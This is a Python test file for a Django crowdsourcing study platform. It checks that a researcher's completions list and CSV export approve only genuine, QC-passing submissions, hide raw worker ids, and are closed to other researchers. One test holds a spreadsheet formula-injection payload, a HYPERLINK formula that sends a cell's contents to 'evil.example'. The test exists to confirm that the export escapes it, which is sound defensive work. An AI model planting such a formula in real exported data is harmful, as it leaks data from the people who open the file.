"""Attack: getting paid without doing the work. The completion code is one per study and shown to everyone
who submits, so it spreads; a freeloader pastes it into Prolific without a HIT, another clicks through
failing every sentinel. The researcher's completions list (GET /api/v1/studies/<id>/completions/) names
each real submission by its platform session (Prolific SESSION_ID, MTurk assignmentId), with status, QC
exclusion and reasons, so only real, kept work is approved; it never holds the raw worker ids."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from judgments.assignments import assignment_start
from judgments.models import Worker
from judgments.qc import assignment_reject, assignment_submit

pytestmark = pytest.mark.django_db


def prolific(study, n, answer_trials, policy):
    a = assignment_start(
        study=study,
        platform="prolific",
        worker_id=f"PID-SECRET-{n}",
        platform_info={"study_id": "PSTUDY", "session_id": f"SESSION-{n}"},
    ).assignment
    answer_trials(a, policy)
    return assignment_submit(token=a.token)


def test_only_real_kept_submissions_are_approved(
    make_study, answer_trials, researcher_carol, researcher_dave
):
    study = make_study(
        n_test=12,
        n_sentinels=4,
        n_practice=0,
        owner=researcher_carol,
        config={"hit_size": 4, "exclusion": {"min_sentinel_accuracy": 1.0}},
    )
    honest = prolific(study, 1, answer_trials, lambda t, i: i.expected or "p0")
    clicker = prolific(study, 2, answer_trials, lambda t, i: {"p0": "p1", "p1": "p0"}.get(i.expected) or "p0")
    rejected = prolific(study, 3, answer_trials, lambda t, i: i.expected or "p1")
    assignment_reject(assignment=rejected, reason="copied answers")
    assignment_start(
        study=study,
        platform="prolific",
        worker_id="PID-SECRET-4",
        platform_info={"study_id": "PSTUDY", "session_id": "SESSION-4"},
    )  # started, never finished
    mturk = assignment_start(
        study=study,
        platform="mturk",
        worker_id="AWORKERSECRET",
        platform_info={
            "hit_id": "HIT9",
            "assignment_id": "ASSIGN9",
            "turk_submit_to": "https://www.mturk.com",
        },
    ).assignment
    answer_trials(mturk, lambda t, i: i.expected or "p0")
    assignment_submit(token=mturk.token)
    assert clicker.excluded and not honest.excluded

    client = APIClient()
    client.force_authenticate(researcher_carol)
    r = client.get(f"/api/v1/studies/{study.pk}/completions/")
    assert r.status_code == 200
    assert r.json()["count"] == 4 and r.json()["next"] is None
    rows = {row["session_id"]: row for row in r.json()["results"]}
    # the freeloader who only pasted the code, and the unfinished HIT, are not there to approve
    assert set(rows) == {"SESSION-1", "SESSION-2", "SESSION-3", "ASSIGN9"}
    assert {s for s, row in rows.items() if row["approve"]} == {"SESSION-1", "ASSIGN9"}
    assert rows["SESSION-2"]["excluded"] and "sentinel accuracy" in rows["SESSION-2"]["reasons"][0]
    assert rows["SESSION-3"]["status"] == "rejected" and "copied answers" in rows["SESSION-3"]["reasons"]
    assert rows["ASSIGN9"]["platform"] == "mturk" and rows["ASSIGN9"]["platform_study"] == "HIT9"
    text = r.content.decode()
    assert "SECRET" not in text  # raw worker ids are never stored, let alone listed
    assert not any(w.external_hash in text for w in Worker.objects.all())
    # as a spreadsheet
    r = client.get(f"/api/v1/studies/{study.pk}/completions/?format=csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert {row["session_id"]: row["approve"] for row in table} == {
        "SESSION-1": "true",
        "SESSION-2": "false",
        "SESSION-3": "false",
        "ASSIGN9": "true",
    }
    # another researcher learns nothing, not even that the study exists
    other = APIClient()
    other.force_authenticate(researcher_dave)
    assert other.get(f"/api/v1/studies/{study.pk}/completions/").status_code == 404
    assert other.get(f"/api/v1/studies/{study.pk}/completions/?format=csv").status_code == 404


def test_a_crafted_session_id_cannot_run_in_the_researchers_spreadsheet(
    make_study, answer_trials, researcher_carol
):
    study = make_study(n_test=4, n_sentinels=1, n_practice=0, owner=researcher_carol, config={"hit_size": 2})
    evil = '=HYPERLINK("https://evil.example/?"&A1,"pay me")'
    a = assignment_start(
        study=study,
        platform="prolific",
        worker_id="PID-X",
        platform_info={"study_id": "S", "session_id": evil},
    ).assignment
    answer_trials(a, lambda t, i: i.expected or "p0")
    assignment_submit(token=a.token)
    client = APIClient()
    client.force_authenticate(researcher_carol)
    r = client.get(f"/api/v1/studies/{study.pk}/completions/?format=csv")
    (row,) = csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode()))
    assert row["session_id"] == "'" + evil
